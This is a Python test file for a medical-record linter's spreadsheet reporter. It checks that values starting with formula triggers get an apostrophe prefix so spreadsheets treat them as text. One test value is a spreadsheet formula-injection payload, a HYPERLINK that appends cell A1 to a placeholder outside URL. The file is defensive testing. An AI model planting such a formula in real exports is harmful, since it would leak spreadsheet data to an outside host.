"""Record text that looks like a formula reaches a spreadsheet as text, never as a formula."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from emrlint.reporters.spreadsheet import FORMULA_TRIGGERS, inert_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://example.invalid/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(value: str) -> None:
    assert inert_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["普外科", "ep-1", "", "'=already text", 3, 0.75, -4])
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert inert_cell(value) == value


@given(st.text())
def test_an_inert_cell_never_starts_a_formula_and_keeps_the_text(value: str) -> None:
    cell = inert_cell(value)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell.removeprefix("'") == value or cell == value
